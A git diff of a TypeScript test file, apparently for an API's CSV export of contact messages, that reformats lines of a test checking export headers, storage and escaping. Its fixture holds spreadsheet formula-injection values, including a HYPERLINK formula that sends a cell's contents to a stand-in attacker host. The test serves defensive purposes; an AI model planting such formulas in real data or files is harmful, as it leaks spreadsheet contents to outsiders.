@@ -11,7 +11,12 @@ export function exportCases(hub: () => Installation): void {
 	describe("[EV-1] an export as CSV", () => {
 		const message = {
 			...{ id: randomUUID(), state: "new", locale: "de", email: "mara@example.org" },
-			...{ name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")', organisation: "+1+1", subject: "-1+2", message: "@SUM(1);=2" },
+			...{
+				name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")',
+				organisation: "+1+1",
+				subject: "-1+2",
+				message: "@SUM(1);=2",
+			},
 		};
 		const fields = "id,name,organisation,subject,message";
 		const written = new RegExp(
@@ -40,7 +45,9 @@ export function exportCases(hub: () => Installation): void {
 				await hub().admin.create("/items/contact_messages", message);
 			const body = method === "SEARCH" ? { query: { filter, fields: fields.split(",") } } : undefined;
 			const response = await call(`/items/contact_messages${query}`, method, body);
-			expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="contact_messages \d{4}-\d\d-\d\d\.csv"$/);
+			expect(response.headers.get("content-disposition")).toMatch(
+				/^attachment; filename="contact_messages \d{4}-\d\d-\d\d\.csv"$/,
+			);
 			expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
 			const text = await textOf(response);
 			if (method === "SEARCH") expect(text).toMatch(/"""=HYPERLINK/);
@@ -65,7 +72,8 @@ export function exportCases(hub: () => Installation): void {
 			const stored = await exported();
 			expect(stored?.type).toBe("text/csv");
 			// The file's size is stored when it is complete.
-			const size = () => hub().admin.read(`/files/${stored?.id}`, { fields: ["filesize"] }, z.object({ filesize: z.unknown() }));
+			const size = () =>
+				hub().admin.read(`/files/${stored?.id}`, { fields: ["filesize"] }, z.object({ filesize: z.unknown() }));
 			await expect.poll(async () => (await size()).filesize, { timeout: 10_000 }).not.toBeNull();
 			const text = await textOf(await call(`/assets/${stored?.id}?download`));
 			expect(text).toMatch(written);
